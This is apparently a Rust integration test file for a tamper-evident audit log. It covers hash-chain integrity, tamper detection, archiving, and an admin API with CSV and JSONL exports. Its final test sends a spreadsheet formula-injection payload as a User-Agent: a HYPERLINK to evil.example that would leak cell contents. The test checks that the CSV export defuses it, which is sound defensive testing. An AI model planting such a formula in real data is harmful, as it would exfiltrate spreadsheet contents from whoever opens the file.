//! The audit log on the backend under test: one gapless hash chain also when two processes
//! append at once, rows from before the chain chained at start, a changed or deleted entry
//! found by `verify` and by `confab audit verify`, retention that archives into files before
//! deleting, and the admin API (filters, paging, streamed exports, verify).
//!
//! Long (about 670 lines) because each case builds its own chain, processes or admin
//! session and checks the log entry by entry; the admin API's cases (listing, exports) are the
//! next cut into a module of their own.

use std::path::Path;
use std::process::Stdio;
use std::time::Duration;

use confab_admin::{BreakKind, SqlAuditLog};
use confab_core::audit::{AuditAction, AuditEvent, Outcome};
use confab_core::config::DatabaseConfig;
use confab_core::extract::ClientMeta;
use confab_store::{Backend, Db};
use confab_testkit::TestDb;
use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::common::{PASSWORD, TestApp};

/// A migrated database of the backend under test.
async fn database() -> (Db, TestDb) {
    let test_db = TestDb::new().await.unwrap();
    let db = Db::connect(&test_db.url, &DatabaseConfig::default())
        .await
        .unwrap();
    confab_admin::migrations().run(&db).await.unwrap();
    (db, test_db)
}

/// The actions these tests write: a service of their own, as every service declares its actions.
#[derive(Debug, Clone, Copy)]
enum TestAction {
    Event,
    Concurrent,
    After,
    Bulk,
}

impl AuditAction for TestAction {
    fn name(self) -> &'static str {
        match self {
            TestAction::Event => "test.event",
            TestAction::Concurrent => "test.concurrent",
            TestAction::After => "test.after",
            TestAction::Bulk => "test.bulk",
        }
    }
}

fn event(action: TestAction, n: usize) -> AuditEvent {
    AuditEvent::new(action, Outcome::Success, &ClientMeta::default())
        .target(format!("target-{n}"))
        .details(json!({"n": n, "note": "a, \"quoted\" value"}))
}

/// Appends `count` entries, a few milliseconds apart so their times differ.
async fn append(log: &SqlAuditLog, count: usize) {
    for n in 0..count {
        log.append(event(TestAction::Event, n)).await.unwrap();
        tokio::time::sleep(Duration::from_millis(3)).await;
    }
}

/// Runs `sql` behind the service's back, with the trigger that would refuse it switched off.
async fn tamper(db: &Db, trigger: &str, sql: &'static str) {
    let disable = match db.backend() {
        Backend::Sqlite => format!("DROP TRIGGER {trigger}"),
        Backend::Postgres => format!("ALTER TABLE audit_log DISABLE TRIGGER {trigger}"),
    };
    sqlx::query(sqlx::AssertSqlSafe(disable))
        .execute(db.pool())
        .await
        .unwrap();
    let changed = sqlx::query(sql).execute(db.pool()).await.unwrap();
    assert_eq!(changed.rows_affected(), 1, "{sql}");
}

/// Runs `confab audit <args>` on `db`; returns (exit code, stdout, stderr).
async fn confab_audit(db: &TestDb, args: &[&str]) -> (i32, String, String) {
    let output = tokio::process::Command::new(Path::new(env!("CARGO_BIN_EXE_confab")))
        .arg("audit")
        .args(args)
        .arg("--data-dir")
        .arg(db.dir.path())
        .current_dir(db.dir.path())
        .env("CONFAB_DATABASE__URL", &db.url)
        .stdin(Stdio::null())
        .output()
        .await
        .unwrap();
    (
        output.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&output.stdout).into_owned(),
        String::from_utf8_lossy(&output.stderr).into_owned(),
    )
}

#[tokio::test]
async fn appends_from_two_processes_form_one_gapless_chain() {
    let (db, test_db) = database().await;
    // A second pool on the same database stands for a second process.
    let other = Db::connect(&test_db.url, &DatabaseConfig::default())
        .await
        .unwrap();
    let logs = [SqlAuditLog::new(db.clone()), SqlAuditLog::new(other)];
    let appends = (0..40).map(|n| logs[n % 2].append(event(TestAction::Concurrent, n)));
    let appended = futures::future::join_all(appends).await;
    let mut seqs: Vec<i64> = appended.into_iter().map(|a| a.unwrap().seq).collect();
    seqs.sort_unstable();
    assert_eq!(seqs, (1..=40).collect::<Vec<_>>());

    let report = logs[0].verify().await.unwrap();
    assert!(report.intact(), "{report:?}");
    assert_eq!((report.entries, report.head_seq), (40, 40));
    let entries = logs[1].recent(None, 100).await.unwrap();
    for pair in entries.windows(2) {
        assert_eq!(pair[0].seq, pair[1].seq + 1);
        assert_eq!(pair[0].prev_hash, pair[1].hash);
    }
    assert_eq!(entries.last().unwrap().prev_hash, "0".repeat(64));
}

#[tokio::test]
async fn rows_from_before_the_chain_are_kept_and_chained_at_start() {
    let (db, _test_db) = database().await;
    // Rows as the first version wrote them: no seq, no hashes; ids not in time order.
    for (id, at) in [
        ("legacy-b", 1_700_000_000_300_i64),
        ("legacy-a", 1_700_000_000_100),
        ("legacy-c", 1_700_000_000_200),
    ] {
        sqlx::query(
            "INSERT INTO audit_log (id, at, actor, action, target, outcome, ip, user_agent, \
             request_id, details) VALUES ($1, $2, NULL, 'auth.login', 'x', 'success', NULL, \
             NULL, NULL, '{\"legacy\":true}')",
        )
        .bind(id)
        .bind(at)
        .execute(db.pool())
        .await
        .unwrap();
    }
    let unchained = SqlAuditLog::new(db.clone()).verify().await.unwrap();
    assert_eq!(
        unchained.first_broken.map(|b| b.kind),
        Some(BreakKind::Unchained)
    );

    let log = SqlAuditLog::open(db.clone()).await.unwrap();
    log.append(event(TestAction::After, 0)).await.unwrap();
    let entries = log.recent(None, 10).await.unwrap();
    let order: Vec<(i64, &str)> = entries
        .iter()
        .rev()
        .map(|e| (e.seq, e.id.as_str()))
        .collect();
    assert_eq!(
        &order[..3],
        &[(1, "legacy-a"), (2, "legacy-c"), (3, "legacy-b")]
    );
    assert_eq!(entries[0].seq, 4);
    assert_eq!(entries[1].details, json!({"legacy": true}));
    assert!(log.verify().await.unwrap().intact());
    assert_eq!(
        SqlAuditLog::open(db.clone())
            .await
            .unwrap()
            .chain_legacy()
            .await
            .unwrap(),
        0
    );

    // Once chained, nothing may change.
    for sql in [
        "UPDATE audit_log SET details = '{}' WHERE seq = 2",
        "UPDATE audit_log SET seq = 9, prev_hash = 'x', hash = 'y' WHERE seq = 2",
        "DELETE FROM audit_log WHERE seq = 1",
    ] {
        let refused = sqlx::query(sql).execute(db.pool()).await.unwrap_err();
        assert!(
            refused.to_string().contains("append-only"),
            "{sql}: {refused}"
        );
    }
}

#[tokio::test]
async fn a_changed_entry_is_found_exactly_there_by_the_library_and_the_cli() {
    let (db, test_db) = database().await;
    let log = SqlAuditLog::new(db.clone());
    append(&log, 5).await;
    let (code, stdout, stderr) = confab_audit(&test_db, &["verify"]).await;
    assert_eq!(code, 0, "{stdout}{stderr}");
    assert!(stdout.contains("audit log intact: 5 entries"), "{stdout}");

    tamper(
        &db,
        "audit_log_no_update",
        "UPDATE audit_log SET details = '{\"n\":99}' WHERE seq = 3",
    )
    .await;
    let changed = log.recent(None, 5).await.unwrap()[2].clone();
    assert_eq!(changed.seq, 3);
    let report = log.verify().await.unwrap();
    let broken = report.first_broken.unwrap();
    assert_eq!(broken.seq, Some(3));
    assert_eq!(broken.id.as_deref(), Some(changed.id.as_str()));
    assert_eq!(broken.kind, BreakKind::HashMismatch);
    assert_eq!(report.entries, 2);

    let (code, stdout, stderr) = confab_audit(&test_db, &["verify"]).await;
    assert_eq!(code, 1, "{stdout}{stderr}");
    assert!(stderr.contains("seq 3"), "{stderr}");
    assert!(stderr.contains(&changed.id), "{stderr}");
    assert!(stderr.contains("does not match its hash"), "{stderr}");
}

#[tokio::test]
async fn deleted_entries_leave_reported_gaps() {
    let (db, _test_db) = database().await;
    let log = SqlAuditLog::new(db.clone());
    append(&log, 5).await;
    tamper(
        &db,
        "audit_log_no_delete",
        "DELETE FROM audit_log WHERE seq = 3",
    )
    .await;
    let broken = log.verify().await.unwrap().first_broken.unwrap();
    assert_eq!((broken.seq, broken.kind), (Some(4), BreakKind::Gap));
    assert!(
        broken.reason.contains("entry 3 is missing"),
        "{}",
        broken.reason
    );

    // The newest entries gone: the head still knows how long the chain was.
    let (db, _test_db) = database().await;
    let log = SqlAuditLog::new(db.clone());
    append(&log, 3).await;
    tamper(
        &db,
        "audit_log_no_delete",
        "DELETE FROM audit_log WHERE seq = 3",
    )
    .await;
    let broken = log.verify().await.unwrap().first_broken.unwrap();
    assert_eq!((broken.seq, broken.kind), (Some(3), BreakKind::MissingTail));
}

#[tokio::test]
async fn retention_archives_to_files_before_deleting() {
    let (db, test_db) = database().await;
    let dir = confab_admin::archive_dir(test_db.dir.path());
    let log = SqlAuditLog::new(db.clone());
    append(&log, 6).await;
    let before = log.recent(None, 10).await.unwrap();
    let cutoff = before[2].at; // the fourth entry's time: the three before it are older
    assert!(before[3].at < cutoff);

    let report = log.archive_older_than(cutoff, &dir).await.unwrap();
    assert_eq!(report.entries, 3);
    let file = &report.files[0];
    assert_eq!(
        (file.from_seq, file.to_seq, file.file_name.as_str()),
        (1, 3, "audit-000000000001-000000000003.jsonl")
    );
    assert_eq!(file.last_hash, before[3].hash);

    // The file: one entry per line in chain order, hashes as they were.
    let text = std::fs::read_to_string(dir.join(&file.file_name)).unwrap();
    let lines: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 3);
    for (line, entry) in lines.iter().zip(before.iter().rev()) {
        assert_eq!(line["seq"], entry.seq);
        assert_eq!(line["id"], entry.id.as_str());
        assert_eq!(line["at"], entry.at);
        assert_eq!(line["details"], entry.details);
        assert_eq!(line["prev_hash"], entry.prev_hash.as_str());
        assert_eq!(line["hash"], entry.hash.as_str());
    }
    let leftovers: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(leftovers.len(), 1, "no temporary files stay: {leftovers:?}");

    // Gone from the table; the chain still verifies, from the archive on and through it.
    let remaining: Vec<i64> = log
        .recent(None, 10)
        .await
        .unwrap()
        .iter()
        .map(|e| e.seq)
        .collect();
    assert_eq!(remaining, vec![6, 5, 4]);
    let report = log.verify_with_archives(Some(&dir)).await.unwrap();
    assert!(report.intact(), "{report:?}");
    assert_eq!(
        (
            report.entries,
            report.archived_entries,
            report.archive_files_checked
        ),
        (3, 3, 1)
    );
    log.append(event(TestAction::After, 7)).await.unwrap();
    assert!(log.verify().await.unwrap().intact());
    let (code, stdout, stderr) = confab_audit(&test_db, &["verify"]).await;
    assert_eq!(code, 0, "{stdout}{stderr}");
    assert!(
        stdout.contains("audit log intact: 4 entries (3 archived, 1 archive files checked)"),
        "{stdout}"
    );

    // Nothing else is old enough; rows no archive covers cannot be deleted.
    assert_eq!(
        log.archive_older_than(cutoff, &dir).await.unwrap().entries,
        0
    );
    let refused = sqlx::query("DELETE FROM audit_log WHERE seq = 4")
        .execute(db.pool())
        .await
        .unwrap_err();
    assert!(refused.to_string().contains("archived"), "{refused}");
    let refused = sqlx::query("DELETE FROM audit_archives")
        .execute(db.pool())
        .await
        .unwrap_err();
    assert!(refused.to_string().contains("append-only"), "{refused}");

    // A changed archive file is found.
    let changed = text.replacen("\"n\":1", "\"n\":5", 1);
    assert_ne!(changed, text);
    std::fs::write(dir.join(&file.file_name), changed).unwrap();
    let broken = log
        .verify_with_archives(Some(&dir))
        .await
        .unwrap()
        .first_broken
        .unwrap();
    assert_eq!((broken.seq, broken.kind), (Some(2), BreakKind::ArchiveFile));

    // The command line archives per configuration (off by default).
    let (code, stdout, _) = confab_audit(&test_db, &["archive"]).await;
    assert_eq!(code, 0);
    assert!(stdout.contains("retention is off"), "{stdout}");
}

#[tokio::test]
async fn concurrent_archivers_move_each_entry_once() {
    let (db, test_db) = database().await;
    let other = Db::connect(&test_db.url, &DatabaseConfig::default())
        .await
        .unwrap();
    let dir = confab_admin::archive_dir(test_db.dir.path());
    let logs = [SqlAuditLog::new(db.clone()), SqlAuditLog::new(other)];
    append(&logs[0], 4).await;
    let cutoff = confab_core::now_ms() + 1;
    let (a, b) = tokio::join!(
        logs[0].archive_older_than(cutoff, &dir),
        logs[1].archive_older_than(cutoff, &dir)
    );
    assert_eq!(a.unwrap().entries + b.unwrap().entries, 4);
    let files: Vec<_> = std::fs::read_dir(&dir).unwrap().collect();
    assert_eq!(files.len(), 1, "{files:?}");
    let report = logs[1].verify_with_archives(Some(&dir)).await.unwrap();
    assert!(report.intact(), "{report:?}");
    assert_eq!((report.entries, report.archived_entries), (0, 4));
    // The chain goes on from the archive.
    logs[0].append(event(TestAction::After, 5)).await.unwrap();
    assert_eq!(logs[1].recent(None, 10).await.unwrap()[0].seq, 5);
    assert!(logs[0].verify().await.unwrap().intact());
}

/// The listing's items for a query string.
async fn items(app: &TestApp, token: &str, query: &str) -> Vec<Value> {
    let response = app
        .get(&format!("/api/v1/admin/audit?{query}"), Some(token))
        .await;
    assert_eq!(
        response.status,
        StatusCode::OK,
        "{query}: {}",
        response.text
    );
    response.body["items"].as_array().unwrap().clone()
}

/// Registers the admin (the first user) and a user; returns their tokens and ids.
async fn admin_and_user(app: &TestApp) -> (String, String, String) {
    let admin = app.register("root@example.com").await;
    let user = app.register("ada@example.com").await;
    let failed = app
        .post(
            "/api/v1/auth/login",
            None,
            json!({"email": "ada@example.com", "password": "not the password"}),
        )
        .await;
    assert_eq!(failed.status, StatusCode::UNAUTHORIZED);
    app.login("ada@example.com", PASSWORD).await;
    (
        admin["access_token"].as_str().unwrap().to_owned(),
        user["access_token"].as_str().unwrap().to_owned(),
        user["user"]["id"].as_str().unwrap().to_owned(),
    )
}

#[tokio::test]
async fn admins_list_filter_and_page_the_log() {
    let app = TestApp::start().await;
    let (admin, user, user_id) = admin_and_user(&app).await;
    app.get("/api/v1/admin/audit", Some(&user))
        .await
        .assert_error(403, "forbidden");
    app.get("/api/v1/admin/audit", None)
        .await
        .assert_error(401, "unauthorized");

    let all = items(&app, &admin, "").await;
    // Two registrations, a failed login and a good one, at least.
    let n = all.len() as i64;
    assert!(n >= 4, "{all:?}");
    let seqs: Vec<i64> = all.iter().map(|e| e["seq"].as_i64().unwrap()).collect();
    assert_eq!(seqs, (1..=n).rev().collect::<Vec<_>>());
    let newest = &all[0];
    for field in [
        "id",
        "seq",
        "at",
        "actor",
        "action",
        "target",
        "outcome",
        "ip",
        "user_agent",
        "request_id",
        "details",
        "hash",
    ] {
        assert!(newest.get(field).is_some(), "{field} missing: {newest}");
    }
    assert!(newest["at"].as_str().unwrap().ends_with('Z'), "{newest}");
    assert_eq!(newest["hash"].as_str().unwrap().len(), 64);
    // Reading the log is not audited.
    assert_eq!(items(&app, &admin, "").await.len() as i64, n);

    let failures = items(&app, &admin, "action=auth.login&outcome=failure").await;
    assert_eq!(failures.len(), 1);
    assert_eq!(failures[0]["target"], "ada@example.com");
    assert_eq!(failures[0]["actor"], user_id.as_str());
    assert_eq!(items(&app, &admin, "action=auth.*").await.len() as i64, n);
    let logins = items(&app, &admin, "action=auth.log*").await;
    assert_eq!(logins.len(), 2);
    assert!(logins.iter().all(|e| e["action"] == "auth.login"));
    assert!(
        items(&app, &admin, "action=auth.").await.is_empty(),
        "exact unless it ends in *"
    );
    let by_user = items(&app, &admin, &format!("actor={user_id}")).await;
    assert!(by_user.len() >= 2);
    assert!(by_user.iter().all(|e| e["actor"] == user_id.as_str()));
    assert!(
        items(&app, &admin, "from=2999-01-01T00:00:00Z")
            .await
            .is_empty()
    );
    let window = "from=2000-01-01T00:00:00Z&to=2999-01-01T00:00:00Z";
    assert_eq!(items(&app, &admin, window).await.len() as i64, n);

    // Pages of two, newest first, following the cursor.
    let mut seen = Vec::new();
    let mut path = "/api/v1/admin/audit?limit=2".to_owned();
    loop {
        let page = app.get(&path, Some(&admin)).await;
        assert_eq!(page.status, StatusCode::OK, "{}", page.text);
        seen.extend(
            page.body["items"]
                .as_array()
                .unwrap()
                .iter()
                .map(|e| e["seq"].as_i64().unwrap()),
        );
        match page.body["next_cursor"].as_str() {
            Some(cursor) => path = format!("/api/v1/admin/audit?limit=2&cursor={cursor}"),
            None => break,
        }
    }
    assert_eq!(seen, (1..=n).rev().collect::<Vec<_>>());

    for (q, status, code) in [
        ("actor=bob", 422, "invalid_filter"),
        ("action=a*b", 422, "invalid_filter"),
        ("outcome=maybe", 422, "invalid_filter"),
        ("from=yesterday", 422, "invalid_filter"),
        ("to=1700000000000", 422, "invalid_filter"),
        (
            "from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z",
            422,
            "invalid_filter",
        ),
        ("limit=501", 400, "invalid_limit"),
        ("limit=0", 400, "invalid_limit"),
        ("cursor=!!", 400, "invalid_cursor"),
    ] {
        let message = app
            .get(&format!("/api/v1/admin/audit?{q}"), Some(&admin))
            .await
            .assert_error(status, code);
        assert!(!message.is_empty(), "{q}");
    }
    let message = app
        .get("/api/v1/admin/audit?from=yesterday", Some(&admin))
        .await
        .assert_error(422, "invalid_filter");
    assert!(message.starts_with("from:"), "{message}");
    app.stop().await;
}

#[tokio::test]
async fn exports_stream_every_page_and_are_audited() {
    let app = TestApp::start().await;
    let (admin, user, _) = admin_and_user(&app).await;
    let before = items(&app, &admin, "").await.len();
    let log = SqlAuditLog::new(app.db.clone());
    // More than two export pages.
    for n in 0..1100 {
        log.append(event(TestAction::Bulk, n)).await.unwrap();
    }
    let total = before + 1100;
    app.get("/api/v1/admin/audit/export?format=csv", Some(&user))
        .await
        .assert_error(403, "forbidden");
    app.get("/api/v1/admin/audit/export?format=xml", Some(&admin))
        .await
        .assert_error(422, "invalid_format");
    app.get("/api/v1/admin/audit/export?outcome=maybe", Some(&admin))
        .await
        .assert_error(422, "invalid_filter");

    let jsonl = app
        .client
        .get(app.url("/api/v1/admin/audit/export?format=jsonl"))
        .bearer_auth(&admin)
        .send()
        .await
        .unwrap();
    assert_eq!(jsonl.status(), 200);
    assert_eq!(jsonl.headers()["content-type"], "application/x-ndjson");
    let disposition = jsonl.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(
        disposition.starts_with("attachment; filename=\"audit-"),
        "{disposition}"
    );
    assert!(disposition.ends_with(".jsonl\""), "{disposition}");
    let text = jsonl.text().await.unwrap();
    let entries: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(
        entries.len(),
        total,
        "the export's own entry comes after it"
    );
    for (i, pair) in entries.windows(2).enumerate() {
        assert_eq!(
            pair[1]["seq"].as_i64(),
            pair[0]["seq"].as_i64().map(|s| s + 1),
            "{i}"
        );
        assert_eq!(pair[1]["prev_hash"], pair[0]["hash"]);
    }
    assert_eq!(entries[before]["details"]["note"], "a, \"quoted\" value");

    let csv = app
        .client
        .get(app.url("/api/v1/admin/audit/export?format=csv&action=test.*&to=2999-01-01T00:00:00Z"))
        .bearer_auth(&admin)
        .send()
        .await
        .unwrap();
    assert_eq!(csv.status(), 200);
    assert_eq!(csv.headers()["content-type"], "text/csv; charset=utf-8");
    assert!(
        csv.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .ends_with(".csv\"")
    );
    let text = csv.text().await.unwrap();
    let lines: Vec<&str> = text.split_terminator("\r\n").collect();
    assert_eq!(lines.len(), 1 + 1100);
    assert_eq!(
        lines[0],
        "seq,id,at,actor,action,target,outcome,ip,user_agent,request_id,details,prev_hash,hash"
    );
    let first = lines[1];
    assert!(first.starts_with(&format!("{},", before + 1)), "{first}");
    assert!(
        first.contains(
            r#",,test.bulk,target-0,success,,,,"{""n"":0,""note"":""a, \""quoted\"" value""}","#
        ),
        "{first}"
    );

    // Each export is itself recorded, with who asked and for what.
    let exported = app
        .get("/api/v1/admin/audit?action=audit.exported", Some(&admin))
        .await;
    let exported = exported.body["items"].as_array().unwrap().clone();
    assert_eq!(exported.len(), 2);
    assert_eq!(exported[0]["details"]["format"], "csv");
    assert_eq!(exported[0]["details"]["filter"]["action"], "test.*");
    assert!(exported[0]["actor"].is_string());

    let verified = app.get("/api/v1/admin/audit/verify", Some(&admin)).await;
    assert_eq!(verified.status, StatusCode::OK, "{}", verified.text);
    assert_eq!(verified.body["first_broken"], Value::Null);
    assert_eq!(verified.body["entries"], total + 2);
    app.get("/api/v1/admin/audit/verify", Some(&user))
        .await
        .assert_error(403, "forbidden");
    app.stop().await;
}

/// A sign-in with a formula as its User-Agent must not become a live formula in the admin's
/// spreadsheet: the CSV export defuses it (JSON Lines keeps it exactly).
#[tokio::test]
async fn csv_export_defuses_spreadsheet_formulas() {
    let app = TestApp::start().await;
    app.register("admin@example.com").await;
    let (admin, _) = app.login("admin@example.com", PASSWORD).await;
    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"Open")"#;
    let failed = app
        .client
        .post(app.url("/api/v1/auth/login"))
        .header("user-agent", formula)
        .json(&json!({"email": "nobody@example.com", "password": "whatever it is"}))
        .send()
        .await
        .unwrap();
    assert_eq!(failed.status(), StatusCode::UNAUTHORIZED);

    let csv = app
        .client
        .get(app.url("/api/v1/admin/audit/export?format=csv&action=auth.login"))
        .bearer_auth(&admin)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let line = csv
        .split_terminator("\r\n")
        .find(|l| l.contains("HYPERLINK"))
        .unwrap_or_else(|| panic!("no entry with the user agent: {csv}"));
    assert!(
        line.contains(r#","'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")","#),
        "{line}"
    );
    assert!(!line.contains(",=HYPERLINK"), "{line}");

    let jsonl = app
        .client
        .get(app.url("/api/v1/admin/audit/export?format=jsonl&action=auth.login"))
        .bearer_auth(&admin)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        jsonl
            .lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap())
            .any(|e| e["user_agent"] == formula),
        "{jsonl}"
    );
    app.stop().await;
}
